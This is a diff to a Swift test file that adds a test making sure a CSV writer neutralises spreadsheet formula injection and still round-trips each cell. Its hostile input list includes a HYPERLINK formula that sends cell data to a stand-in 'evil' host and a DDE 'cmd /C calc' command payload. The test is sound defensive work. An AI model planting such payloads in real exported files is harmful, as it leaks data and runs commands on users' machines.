@@ -46,6 +46,25 @@ struct EventTests {
         #expect(try table(CSVTable.text(rows)) == rows)
     }
 
+    @Test("no cell is a formula to a spreadsheet, and each comes back as it was")
+    func formulas() throws {
+        let hostile = [
+            "=HYPERLINK(\"http://evil\"&B2,\"K1FOX\")", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+A1",
+            "\t=1", "\r=1", "'=1", "''=1", "--1", "+", "-1e5", "=",
+        ]
+        let harmless = ["-0.5", "+146.52", "12", "'s", "'", "a=b", "K1FOX-1", ""]
+        let written = CSVTable.text([hostile + harmless])
+        #expect(try table(written) == [hostile + harmless])
+        let cells = written.split(separator: ",", omittingEmptySubsequences: false).map {
+            $0.drop { $0 == "\"" }
+        }
+        for cell in cells {
+            let isSign = cell.first.map { "=+-@\t\r".contains($0) } ?? false
+            #expect(!isSign || Double(cell.filter { $0 != "\"" }) != nil, "\(cell)")
+        }
+        #expect(CSVTable.text([harmless]) == harmless.joined(separator: ",") + "\r\n")
+    }
+
     private static let hunt = """
         \u{feff}Name;Callsign;Frequency;Device;Audio;MORSE_WPM
         moe;K7ABC;145,3;E6614C311B6A5B2C;sounds/a.wav;20
